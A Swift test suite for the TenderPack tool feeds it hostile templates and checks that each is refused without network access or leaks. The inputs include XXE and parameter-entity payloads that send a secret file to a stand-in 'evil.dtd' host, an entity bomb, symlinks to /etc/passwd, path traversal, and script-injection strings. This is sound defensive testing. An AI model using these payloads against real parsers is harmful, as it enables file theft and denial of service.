import Foundation
import Testing

/// The scratch world one hostile-template case runs in.
struct TemplateScratch {
    /// The case's own folder: templates, output, secret and the "outside" folder live here.
    let root: URL
    /// A copy of Templates/ the case breaks.
    let templates: URL
    /// `http://127.0.0.1:PORT` of a listener that must never receive a connection.
    let network: String
    /// A local file whose contents must never leave the machine or reach any output.
    let secret: URL
    let secretToken: String
    /// A folder beside the templates folder holding a valid schema (`outside.xsd`).
    let outside: URL

    func file(_ relative: String) -> URL { templates.appendingPathComponent(relative) }
    var packSchema: URL { file("schema/tender-pack.xsd") }
    var scheduleSchema: URL { file("schema/outcome-schedule.xsd") }
    var noticeSchema: URL { file("schema/clarification-notice.xsd") }
    var packCSS: URL { file("css/tender-pack.css") }
    var diffCSS: URL { file("css/diff.css") }
    var labels: URL { file("labels/en-GB.json") }

    func append(_ text: String, to url: URL) throws {
        let handle = try FileHandle(forWritingTo: url)
        defer { try? handle.close() }
        try handle.seekToEnd()
        try handle.write(contentsOf: Data(text.utf8))
    }

    func appendBytes(_ bytes: [UInt8], to url: URL) throws {
        let handle = try FileHandle(forWritingTo: url)
        defer { try? handle.close() }
        try handle.seekToEnd()
        try handle.write(contentsOf: Data(bytes))
    }

    /// Sets one label (the file becomes `{key: value}` plus the raw JSON given).
    func label(rawJSON: String) throws {
        try Data(rawJSON.utf8).write(to: labels)
    }

    func replace(_ url: URL, withLinkTo destination: String) throws {
        try FileManager.default.removeItem(at: url)
        try FaultSupport.symlink(url, to: destination)
    }

    func replaceWithFIFO(_ url: URL) throws {
        try FileManager.default.removeItem(at: url)
        try FaultSupport.mkfifo(url)
    }

    /// A small schema with `markup` inside it, written to `relative` under schema/.
    func writeSchema(_ relative: String, _ markup: String = "", doctype: String = "") throws {
        let text = """
            <?xml version="1.0"?>
            \(doctype)<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:tenderpack:tender-pack:1" elementFormDefault="qualified">\(markup)</xs:schema>

            """
        let url = file("schema/" + relative)
        try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        try Data(text.utf8).write(to: url)
    }
}

/// One hostile template and what TenderPack must do with it.
struct TemplateCase: Sendable, CustomTestStringConvertible {
    enum Command: Sendable { case build, diffHTML, diffNotice, diffNoticeXML }

    var name: String
    var command: Command = .build
    var exit: Int32 = 78
    /// The problem id in brackets, when the run must fail on a template.
    var id: String? = "template.schema"
    /// The template named in the message, relative to the templates folder.
    var file: String? = "schema/tender-pack.xsd"
    /// A text whose line (in `file`, after setup) the message must give; or a fixed line.
    var lineOf: String? = nil
    var line: Int? = nil
    var column: Int? = nil
    /// Words the message must contain.
    var message: String
    var setup: @Sendable (TemplateScratch) throws -> Void

    var testDescription: String { name }
}

enum HostileTemplates {
    static func importing(_ location: String, kind: String = "import", into schema: String = "schema/tender-pack.xsd")
        -> @Sendable (TemplateScratch) throws -> Void {
        { scratch in
            let attribute = kind == "import" ? " namespace=\"urn:evil\"" : ""
            let resolved = location.replacingOccurrences(of: "NET", with: scratch.network)
                .replacingOccurrences(of: "OUTSIDE", with: scratch.outside.path)
                .replacingOccurrences(of: "SECRET", with: scratch.secret.path)
            try FaultSupport.insertIntoSchema(scratch.file(schema), "<xs:\(kind)\(attribute) schemaLocation=\"\(resolved)\"/>")
        }
    }

    static let network = "only files inside the templates folder are read; network and other URL schemes never are"
    static let outside = "outside the templates folder"
    static let notRegular = "only regular files are read"
    static let doctype = "DTDs and entities are never read"

    static let cases: [TemplateCase] = schemaCases + stylesheetCases + labelCases

    // MARK: Schemas

    static let schemaCases: [TemplateCase] = [
        TemplateCase(name: "xs:import of an http URL", lineOf: "schemaLocation=\"http://127", message: network,
                     setup: importing("NET/evil.xsd")),
        TemplateCase(name: "xs:include of an http URL", lineOf: "schemaLocation=\"http://127", message: network,
                     setup: importing("NET/evil.xsd", kind: "include")),
        TemplateCase(name: "xs:redefine of an http URL", lineOf: "schemaLocation=\"http://127", message: network,
                     setup: importing("NET/evil.xsd", kind: "redefine")),
        TemplateCase(name: "xs:import of an https URL", lineOf: "schemaLocation=\"https://", message: network,
                     setup: importing("https://127.0.0.1:1/evil.xsd")),
        TemplateCase(name: "xs:import of an ftp URL", lineOf: "schemaLocation=\"ftp://", message: network,
                     setup: { s in try importing("ftp://127.0.0.1:\(URL(string: s.network)?.port ?? 1)/evil.xsd")(s) }),
        TemplateCase(name: "xs:import of an upper-case HTTP URL", lineOf: "schemaLocation=\"HTTP://", message: network,
                     setup: { s in try importing(s.network.replacingOccurrences(of: "http", with: "HTTP") + "/x.xsd")(s) }),
        TemplateCase(name: "xs:import of a data: URL", lineOf: "schemaLocation=\"data:", message: network,
                     setup: importing("data:text/xml,%3Cx/%3E")),
        TemplateCase(name: "xs:import of a file URL naming a remote host", lineOf: "schemaLocation=\"file://127", message: network,
                     setup: importing("file://127.0.0.1/etc/passwd")),
        TemplateCase(name: "xs:import of a file:/// URL outside the folder", lineOf: "schemaLocation=\"file:///", message: outside,
                     setup: importing("file://OUTSIDE/outside.xsd")),
        TemplateCase(name: "xs:include of file:// localhost outside the folder", lineOf: "schemaLocation=\"file://localhost", message: outside,
                     setup: importing("file://localhostOUTSIDE/outside.xsd", kind: "include")),
        TemplateCase(name: "xs:include of the secret file by absolute path", lineOf: "schemaLocation=\"/", message: outside,
                     setup: importing("SECRET", kind: "include")),
        TemplateCase(name: "xs:include escaping with ..", lineOf: "schemaLocation=\"../../", message: outside,
                     setup: importing("../../outside/outside.xsd", kind: "include")),
        TemplateCase(name: "xs:include escaping with percent-encoded ..", lineOf: "schemaLocation=\"%2e", message: outside,
                     setup: importing("%2e%2e/%2e%2e/outside/outside.xsd", kind: "include")),
        TemplateCase(name: "xs:redefine escaping with ..", lineOf: "schemaLocation=\"../", message: outside,
                     setup: importing("../../outside/outside.xsd", kind: "redefine")),
        TemplateCase(name: "xs:include of a symlink pointing out of the folder", lineOf: "schemaLocation=\"link.xsd", message: outside,
                     setup: { s in
                         try FaultSupport.symlink(s.file("schema/link.xsd"), to: s.outside.appendingPathComponent("outside.xsd").path)
                         try importing("link.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "xs:include through a symlinked folder pointing out", lineOf: "schemaLocation=\"out/", message: outside,
                     setup: { s in
                         try FaultSupport.symlink(s.file("schema/out"), to: s.outside.path)
                         try importing("out/outside.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "xs:include of a symlink to /etc/passwd", lineOf: "schemaLocation=\"passwd.xsd", message: outside,
                     setup: { s in
                         try FaultSupport.symlink(s.file("schema/passwd.xsd"), to: "/etc/passwd")
                         try importing("passwd.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "xs:include of a symlink loop", lineOf: "schemaLocation=\"loop-a.xsd", message: "symlink loop",
                     setup: { s in
                         try FaultSupport.symlink(s.file("schema/loop-a.xsd"), to: "loop-b.xsd")
                         try FaultSupport.symlink(s.file("schema/loop-b.xsd"), to: "loop-a.xsd")
                         try importing("loop-a.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "xs:include of a dangling symlink", lineOf: "schemaLocation=\"gone.xsd", message: "no such file",
                     setup: { s in
                         try FaultSupport.symlink(s.file("schema/gone.xsd"), to: "nowhere.xsd")
                         try importing("gone.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "xs:include of a FIFO never blocks", lineOf: "schemaLocation=\"fifo.xsd", message: "a FIFO",
                     setup: { s in
                         try FaultSupport.mkfifo(s.file("schema/fifo.xsd"))
                         try importing("fifo.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "xs:import of a FIFO never blocks", lineOf: "schemaLocation=\"fifo.xsd", message: "a FIFO",
                     setup: { s in
                         try FaultSupport.mkfifo(s.file("schema/fifo.xsd"))
                         try importing("fifo.xsd")(s)
                     }),
        TemplateCase(name: "xs:include of a folder", lineOf: "schemaLocation=\"sub", message: "a folder",
                     setup: { s in
                         try FileManager.default.createDirectory(at: s.file("schema/sub"), withIntermediateDirectories: true)
                         try importing("sub", kind: "include")(s)
                     }),
        TemplateCase(name: "xs:include of /dev/zero", lineOf: "schemaLocation=\"/dev/zero", message: outside,
                     setup: importing("/dev/zero", kind: "include")),
        TemplateCase(name: "xs:include of a symlink to /dev/urandom", lineOf: "schemaLocation=\"random.xsd", message: outside,
                     setup: { s in
                         try FaultSupport.symlink(s.file("schema/random.xsd"), to: "/dev/urandom")
                         try importing("random.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "xs:include of a missing file", lineOf: "schemaLocation=\"missing.xsd", message: "no such file",
                     setup: importing("missing.xsd", kind: "include")),
        TemplateCase(name: "included schema loading an external DTD over http", lineOf: "schemaLocation=\"inc.xsd", message: doctype,
                     setup: { s in
                         try s.writeSchema("inc.xsd", doctype: "<!DOCTYPE xs:schema SYSTEM \"\(s.network)/evil.dtd\">\n")
                         try importing("inc.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "included schema sending a local file out (parameter entities)", lineOf: "schemaLocation=\"inc.xsd",
                     message: doctype,
                     setup: { s in
                         try s.writeSchema("inc.xsd", doctype: """
                             <!DOCTYPE xs:schema [
                             <!ENTITY % file SYSTEM "file://\(s.secret.path)">
                             <!ENTITY % dtd SYSTEM "\(s.network)/evil.dtd">
                             %dtd;
                             ]>

                             """)
                         try importing("inc.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "included schema with an external entity in content", lineOf: "schemaLocation=\"inc.xsd", message: doctype,
                     setup: { s in
                         try s.writeSchema("inc.xsd", "<xs:annotation><xs:documentation>&x;</xs:documentation></xs:annotation>",
                                           doctype: "<!DOCTYPE xs:schema [<!ENTITY x SYSTEM \"file://\(s.secret.path)\">]>\n")
                         try importing("inc.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "included schema with an entity bomb", lineOf: "schemaLocation=\"inc.xsd", message: doctype,
                     setup: { s in
                         var entities = "<!ENTITY a0 \"lol\">"
                         for i in 1...9 { entities += "<!ENTITY a\(i) \"" + String(repeating: "&a\(i - 1);", count: 10) + "\">" }
                         try s.writeSchema("inc.xsd", "<xs:annotation><xs:documentation>&a9;</xs:documentation></xs:annotation>",
                                           doctype: "<!DOCTYPE xs:schema [\(entities)]>\n")
                         try importing("inc.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "included schema with a harmless internal DTD", lineOf: "schemaLocation=\"inc.xsd", message: doctype,
                     setup: { s in
                         try s.writeSchema("inc.xsd", doctype: "<!DOCTYPE xs:schema [<!ENTITY ok \"fine\">]>\n")
                         try importing("inc.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "a schema inside the folder that itself imports from the network", message: network,
                     setup: { s in
                         try s.writeSchema("inner.xsd", "<xs:import namespace=\"urn:evil\" schemaLocation=\"\(s.network)/evil.xsd\"/>")
                         try importing("inner.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "a schema inside the folder that itself includes from outside", message: outside,
                     setup: { s in
                         try s.writeSchema("inner.xsd", "<xs:include schemaLocation=\"../../outside/outside.xsd\"/>")
                         try importing("inner.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "the main schema's own DOCTYPE naming an http DTD", lineOf: "<!DOCTYPE", message: doctype,
                     setup: { s in
                         var text = try String(contentsOf: s.packSchema, encoding: .utf8)
                         text = text.replacingOccurrences(of: "<xs:schema", with: "<!DOCTYPE xs:schema SYSTEM \"\(s.network)/evil.dtd\">\n<xs:schema",
                                                          options: [], range: text.range(of: "<xs:schema"))
                         try text.write(to: s.packSchema, atomically: false, encoding: .utf8)
                     }),
        TemplateCase(name: "the main schema's own XXE entity", lineOf: "<!DOCTYPE", message: doctype,
                     setup: { s in
                         var text = try String(contentsOf: s.packSchema, encoding: .utf8)
                         text = text.replacingOccurrences(
                             of: "<xs:schema", with: "<!DOCTYPE xs:schema [<!ENTITY x SYSTEM \"file://\(s.secret.path)\">]>\n<xs:schema",
                             options: [], range: text.range(of: "<xs:schema"))
                         try text.write(to: s.packSchema, atomically: false, encoding: .utf8)
                     }),
        TemplateCase(name: "outcome-schedule.xsd importing from the network", file: "schema/outcome-schedule.xsd",
                     lineOf: "schemaLocation=\"http://127", message: network,
                     setup: importing("NET/evil.xsd", into: "schema/outcome-schedule.xsd")),
        TemplateCase(name: "outcome-schedule.xsd including a FIFO", file: "schema/outcome-schedule.xsd",
                     lineOf: "schemaLocation=\"fifo.xsd", message: "a FIFO",
                     setup: { s in
                         try FaultSupport.mkfifo(s.file("schema/fifo.xsd"))
                         try importing("fifo.xsd", kind: "include", into: "schema/outcome-schedule.xsd")(s)
                     }),
        TemplateCase(name: "tender-pack.xsd is a FIFO", id: "template.file", message: "a FIFO",
                     setup: { s in try s.replaceWithFIFO(s.packSchema) }),
        TemplateCase(name: "tender-pack.xsd is a symlink out of the folder", id: "template.file", message: outside,
                     setup: { s in try s.replace(s.packSchema, withLinkTo: s.outside.appendingPathComponent("outside.xsd").path) }),
        TemplateCase(name: "tender-pack.xsd is a symlink loop", id: "template.file", message: "symlink loop",
                     setup: { s in try s.replace(s.packSchema, withLinkTo: "tender-pack.xsd") }),
        TemplateCase(name: "tender-pack.xsd is a folder", id: "template.file", message: "a folder",
                     setup: { s in
                         try FileManager.default.removeItem(at: s.packSchema)
                         try FileManager.default.createDirectory(at: s.packSchema, withIntermediateDirectories: false)
                     }),
        TemplateCase(name: "tender-pack.xsd is a symlink to a device", id: "template.file", message: outside,
                     setup: { s in try s.replace(s.packSchema, withLinkTo: "/dev/zero") }),
        TemplateCase(name: "tender-pack.xsd is not well-formed", message: "",
                     setup: { s in try FaultSupport.insertIntoSchema(s.packSchema, "\n<xs:element name=\"broken\">") }),
        TemplateCase(name: "tender-pack.xsd missing from the folder: the built-in one is used", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in try FileManager.default.removeItem(at: s.packSchema) }),
        TemplateCase(name: "clarification notice schema importing from the network", command: .diffNoticeXML,
                     file: "schema/clarification-notice.xsd", lineOf: "schemaLocation=\"http://127", message: network,
                     setup: importing("NET/evil.xsd", into: "schema/clarification-notice.xsd")),
        TemplateCase(name: "clarification notice schema including a FIFO", command: .diffNoticeXML,
                     file: "schema/clarification-notice.xsd", lineOf: "schemaLocation=\"fifo.xsd", message: "a FIFO",
                     setup: { s in
                         try FaultSupport.mkfifo(s.file("schema/fifo.xsd"))
                         try importing("fifo.xsd", kind: "include", into: "schema/clarification-notice.xsd")(s)
                     }),
        TemplateCase(name: "clarification notice schema with an XXE DOCTYPE", command: .diffNoticeXML,
                     file: "schema/clarification-notice.xsd", lineOf: "<!DOCTYPE", message: doctype,
                     setup: { s in
                         var text = try String(contentsOf: s.noticeSchema, encoding: .utf8)
                         text = text.replacingOccurrences(
                             of: "<xs:schema", with: "<!DOCTYPE xs:schema [<!ENTITY % x SYSTEM \"\(s.network)/x.dtd\"> %x;]>\n<xs:schema",
                             options: [], range: text.range(of: "<xs:schema"))
                         try text.write(to: s.noticeSchema, atomically: false, encoding: .utf8)
                     }),
        TemplateCase(name: "clarification notice schema is a FIFO", command: .diffNoticeXML, id: "template.file",
                     file: "schema/clarification-notice.xsd", message: "a FIFO",
                     setup: { s in try s.replaceWithFIFO(s.noticeSchema) }),
        TemplateCase(name: "clarification notice schema is a symlink out", command: .diffNoticeXML, id: "template.file",
                     file: "schema/clarification-notice.xsd", message: outside,
                     setup: { s in try s.replace(s.noticeSchema, withLinkTo: s.secret.path) }),
        // Non-triggering: what a council may legitimately do still works, and nothing is fetched.
        TemplateCase(name: "xs:include of a schema inside the folder still works", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in
                         try s.writeSchema("parts/extra.xsd")
                         try importing("parts/extra.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "a symlink that stays inside the folder still works", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in
                         try s.writeSchema("parts/extra.xsd")
                         try FaultSupport.symlink(s.file("schema/alias.xsd"), to: "parts/extra.xsd")
                         try importing("alias.xsd", kind: "include")(s)
                     }),
        TemplateCase(name: "an xi:include in an annotation is inert", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in
                         try FaultSupport.insertIntoSchema(s.packSchema, """
                             <xs:annotation><xs:appinfo><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="\(s.network)/x.xml" parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://\(s.secret.path)" parse="text"/></xs:appinfo></xs:annotation>
                             """)
                     }),
        TemplateCase(name: "an xs:import with a namespace and no location fetches nothing", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in try FaultSupport.insertIntoSchema(s.packSchema, "<xs:import namespace=\"\(s.network)/ns\"/>") }),
        TemplateCase(name: "the clarification notice schema untouched renders", command: .diffNoticeXML, exit: 0, id: nil, file: nil,
                     message: "", setup: { _ in }),
    ]

    // MARK: Stylesheets

    static let styleEnds = "would end the <style> element"
    static let markup = "is markup, not CSS"

    static func css(_ text: String, lineOf: String? = nil, line: Int? = nil, column: Int? = nil, message: String,
                    name: String, diff: TemplateCase.Command? = nil) -> TemplateCase {
        let file = diff == nil ? "css/tender-pack.css" : "css/diff.css"
        return TemplateCase(name: name, command: diff ?? .build, id: "template.stylesheet", file: file, lineOf: lineOf,
                            line: line, column: column, message: message,
                            setup: { s in try s.append(text, to: diff == nil ? s.packCSS : s.diffCSS) })
    }

    static func cssBytes(_ bytes: [UInt8], message: String, name: String, id: String = "template.stylesheet") -> TemplateCase {
        TemplateCase(name: name, id: id, file: "css/tender-pack.css", lineOf: "/*mark*/", message: message,
                     setup: { s in
                         try s.append("\n/*mark*/", to: s.packCSS)
                         try s.appendBytes(bytes, to: s.packCSS)
                     })
    }

    static let stylesheetCases: [TemplateCase] = [
        css("\np::after { content: \"</style><script>alert(1)</script>\" }\n", lineOf: "p::after", column: 22, message: styleEnds,
            name: "</style> then a script"),
        css("\n/* </STYLE> */\n", lineOf: "/* </STYLE>", column: 4, message: styleEnds, name: "</STYLE> in upper case"),
        css("\n/* </StYlE\n", lineOf: "/* </StYlE", column: 4, message: styleEnds, name: "</StYlE in mixed case, no >"),
        css("\n/* x */ </style\t>\n", lineOf: "/* x */ </style", column: 9, message: styleEnds, name: "</style followed by a tab"),
        css("\n<!-- a { color: red } -->\n", lineOf: "<!-- a", column: 1, message: markup, name: "an HTML comment opener"),
        css("\na { color: red } -->\n", lineOf: "a { color: red } -->", column: 18, message: markup, name: "an HTML comment closer"),
        css("\n/* <script>alert(1)</script> */\n", lineOf: "/* <script>", column: 4, message: markup, name: "a script start tag"),
        css("\n/* <SCRIPT src=x> */\n", lineOf: "/* <SCRIPT", column: 4, message: markup, name: "an upper-case script start tag"),
        css("\n/* </script> */\n", lineOf: "/* </script>", column: 4, message: markup, name: "a script end tag"),
        cssBytes([0x00], message: "a NUL character (U+0000)", name: "a NUL byte"),
        cssBytes([0x01], message: "the control character U+0001", name: "a U+0001 control"),
        cssBytes([0x1B], message: "the control character U+001B", name: "an escape character"),
        cssBytes([0x0B], message: "the control character U+000B", name: "a vertical tab"),
        cssBytes([0x0C], message: "the control character U+000C", name: "a form feed"),
        cssBytes([0xEF, 0xBF, 0xBE], message: "the noncharacter U+FFFE", name: "U+FFFE"),
        cssBytes([0xEF, 0xBF, 0xBF], message: "the noncharacter U+FFFF", name: "U+FFFF"),
        cssBytes([0xFF, 0xFE], message: "not valid UTF-8", name: "bytes that are not UTF-8"),
        cssBytes([0xC3], message: "not valid UTF-8", name: "a truncated UTF-8 sequence"),
        TemplateCase(name: "CRLF stylesheet: </style is located on the right line", id: "template.stylesheet",
                     file: "css/tender-pack.css", line: 3, column: 3, message: styleEnds,
                     setup: { s in try Data("a {}\r\nb {}\r\n  </style>\r\n".utf8).write(to: s.packCSS) }),
        TemplateCase(name: "CR-only stylesheet: a NUL is located on the right line", id: "template.stylesheet",
                     file: "css/tender-pack.css", line: 2, column: 5, message: "NUL",
                     setup: { s in try Data("a {}\rb {}\0\r".utf8).write(to: s.packCSS) }),
        TemplateCase(name: "tender-pack.css is a FIFO", id: "template.file", file: "css/tender-pack.css", message: "a FIFO",
                     setup: { s in try s.replaceWithFIFO(s.packCSS) }),
        TemplateCase(name: "tender-pack.css is a symlink to the secret", id: "template.file", file: "css/tender-pack.css",
                     message: outside, setup: { s in try s.replace(s.packCSS, withLinkTo: s.secret.path) }),
        TemplateCase(name: "tender-pack.css is a symlink to /dev/zero", id: "template.file", file: "css/tender-pack.css",
                     message: outside, setup: { s in try s.replace(s.packCSS, withLinkTo: "/dev/zero") }),
        TemplateCase(name: "tender-pack.css missing from the folder: the built-in one is used", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in try FileManager.default.removeItem(at: s.packCSS) }),
        css("\n</style><script>alert(1)</script>\n", lineOf: "</style><script>", column: 1, message: styleEnds,
            name: "diff.css ending the redline's <style>", diff: .diffHTML),
        css("\n/* <!-- */\n", lineOf: "/* <!--", column: 4, message: markup, name: "diff.css opening an HTML comment in the notice",
            diff: .diffNotice),
        TemplateCase(name: "diff.css with a NUL in the notice", command: .diffNotice, id: "template.stylesheet", file: "css/diff.css",
                     lineOf: "ins {", message: "NUL",
                     setup: { s in try Data("ins {\0}\n".utf8).write(to: s.diffCSS) }),
        TemplateCase(name: "diff.css is a FIFO", command: .diffHTML, id: "template.file", file: "css/diff.css", message: "a FIFO",
                     setup: { s in try s.replaceWithFIFO(s.diffCSS) }),
        TemplateCase(name: "diff.css is a symlink to the secret", command: .diffNotice, id: "template.file", file: "css/diff.css",
                     message: outside, setup: { s in try s.replace(s.diffCSS, withLinkTo: s.secret.path) }),
        // Non-triggering
        TemplateCase(name: "CSS with < in a comment, a tab and CRLF is fine", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in try s.append("\r\n/* a < b, \t> c */\r\n.x > .y { color: #000 }\r\n", to: s.packCSS) }),
        TemplateCase(name: "CSS with a string mentioning style is fine", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in try s.append("\n/* the <style> element, style/script words */\n", to: s.packCSS) }),
    ]

    // MARK: Labels

    static func labelCase(_ json: String, name: String, message: String, line: Int = 1, column: Int = 10) -> TemplateCase {
        TemplateCase(name: name, id: "template.labels", file: "labels/en-GB.json", line: line, column: column, message: message,
                     setup: { s in try s.label(rawJSON: json) })
    }

    static let labelCases: [TemplateCase] = [
        labelCase("{\"none\": \"a\u{FFFE}b\"}", name: "a raw U+FFFE in a label", message: "label `none` holds the noncharacter U+FFFE"),
        labelCase("{\"none\": \"a\\ufffeb\"}", name: "an escaped U+FFFE in a label", message: "the noncharacter U+FFFE"),
        labelCase("{\"none\": \"a\\uffffb\"}", name: "an escaped U+FFFF in a label", message: "the noncharacter U+FFFF"),
        labelCase("{\"none\": \"a\\u0000b\"}", name: "a NUL that would truncate a label", message: "a NUL character (U+0000)"),
        labelCase("{\"none\": \"a\\u0001b\"}", name: "a U+0001 in a label", message: "the control character U+0001"),
        labelCase("{\"none\": \"a\\u001bb\"}", name: "an escape character in a label", message: "the control character U+001B"),
        labelCase("{\"none\": \"a\\u000bb\"}", name: "a vertical tab in a label", message: "the control character U+000B"),
        labelCase("{\n  \"contents.heading\": \"Contents\",\n  \"skip.link\": \"x\\u0002\"\n}", name: "the bad label located on its own line",
                  message: "label `skip.link`", line: 3, column: 16),
        labelCase("{\r\n\"none\":\r\n   \"\\u0000\"}", name: "a bad label value on the line after its key (CRLF)",
                  message: "label `none`", line: 3, column: 4),
        labelCase("{\"lot.heading\": \"Lot %@\\u0000: %@\"}", name: "a NUL between placeholders", message: "label `lot.heading`",
                  column: 17),
        labelCase("{\"no.such.key\": \"x\"}", name: "an unknown label key", message: "unknown label keys: no.such.key", column: 17),
        TemplateCase(name: "labels that are not JSON", id: "template.labels", file: "labels/en-GB.json", message: "not a JSON object",
                     setup: { s in try s.label(rawJSON: "{\"none\": ") }),
        TemplateCase(name: "labels file is a FIFO", id: "template.file", file: "labels/en-GB.json", message: "a FIFO",
                     setup: { s in try s.replaceWithFIFO(s.labels) }),
        TemplateCase(name: "labels file is a symlink to the secret", id: "template.file", file: "labels/en-GB.json",
                     message: outside, setup: { s in try s.replace(s.labels, withLinkTo: s.secret.path) }),
        TemplateCase(name: "labels file is a symlink loop", id: "template.file", file: "labels/en-GB.json", message: "symlink loop",
                     setup: { s in try s.replace(s.labels, withLinkTo: "en-GB.json") }),
        // Non-triggering: markup in a label is text, escaped in the output.
        TemplateCase(name: "a label holding markup is escaped, not refused", exit: 0, id: nil, file: nil, message: "",
                     setup: { s in try s.label(rawJSON: "{\"contents.heading\": \"</style><script>alert(1)</script> & tab\\there\"}") }),
    ]
}

/// Templates read from disk are not trusted: every case runs the built binary against
/// a broken copy of Templates/ with a loopback listener that must stay silent.
@Suite("Hostile templates")
struct HostileTemplateTests {
    static let spec = TestSupport.specsURL.appendingPathComponent("staged-model.yaml").path

    @Test(arguments: HostileTemplates.cases)
    func hostileTemplate(_ testCase: TemplateCase) throws {
        let root = try TestSupport.makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(at: root) }
        let listener = try FaultSupport.LoopbackListener()
        let token = "TENDERPACK-SECRET-\(UUID().uuidString)"
        let secret = root.appendingPathComponent("secret.txt")
        try Data(token.utf8).write(to: secret)
        let outside = root.appendingPathComponent("outside", isDirectory: true)
        try FileManager.default.createDirectory(at: outside, withIntermediateDirectories: true)
        try FileManager.default.copyItem(at: TestSupport.packageRoot.appendingPathComponent("Templates/schema/outcome-schedule.xsd"),
                                        to: outside.appendingPathComponent("outside.xsd"))
        let templates = try FaultSupport.templatesCopy(in: root)
        let scratch = TemplateScratch(root: root, templates: templates, network: listener.url, secret: secret,
                                      secretToken: token, outside: outside)
        try testCase.setup(scratch)

        let output = root.appendingPathComponent("out")
        let arguments: [String]
        switch testCase.command {
        case .build: arguments = ["build", Self.spec, "--output", output.path, "--templates", templates.path]
        case .diffHTML, .diffNotice, .diffNoticeXML:
            let format = testCase.command == .diffHTML ? "html" : testCase.command == .diffNotice ? "notice" : "notice-xml"
            arguments = ["diff", Self.spec, Self.spec, "--format", format, "--templates", templates.path,
                         "--output", output.appendingPathExtension("out").path]
        }
        let result = try FaultSupport.run(arguments, timeout: 15)
        #expect(!result.timedOut, "must never block: \(result)")
        #expect(result.status == testCase.exit, "\(result)")
        #expect(result.seconds < 10, "\(result)")
        let network = listener.connections()
        #expect(network.count == 0, "a connection was made to the loopback listener: \(network.received)")
        #expect(!result.stdout.contains(token) && !result.stderr.contains(token), "the secret leaked into the output")
        #expect(!FaultSupport.allBytes(under: root.appendingPathComponent("out")).contains(Data(token.utf8)))
        if let id = testCase.id {
            #expect(result.stderr.contains("[\(id)]"), "\(result)")
        }
        if testCase.exit != 0, !testCase.message.isEmpty {
            #expect(result.stderr.contains(testCase.message), "\(result)")
        }
        if testCase.exit != 0 {
            // Nothing half-written: a refused template stops the run before any output.
            #expect(!FileManager.default.fileExists(atPath: output.path), "\(result)")
            #expect(!FileManager.default.fileExists(atPath: output.appendingPathExtension("out").path), "\(result)")
        }
        if let file = testCase.file, testCase.exit != 0 {
            var place = templates.appendingPathComponent(file).path
            if let needle = testCase.lineOf {
                place += ":\(try FaultSupport.line(of: needle, in: templates.appendingPathComponent(file)))"
            } else if let line = testCase.line {
                place += ":\(line)"
            }
            if let column = testCase.column { place += ":\(column)" }
            #expect(result.stderr.contains("tenderpack: " + place + (testCase.lineOf != nil || testCase.line != nil ? ":" : "")),
                    "expected the message at \(place): \(result)")
        }
        if testCase.exit == 0, testCase.command == .build {
            let html = try String(contentsOf: output.appendingPathComponent("staged-model/tender-pack.html"), encoding: .utf8)
            #expect(!html.contains("<script"), "markup from a template became live")
        }
    }
}
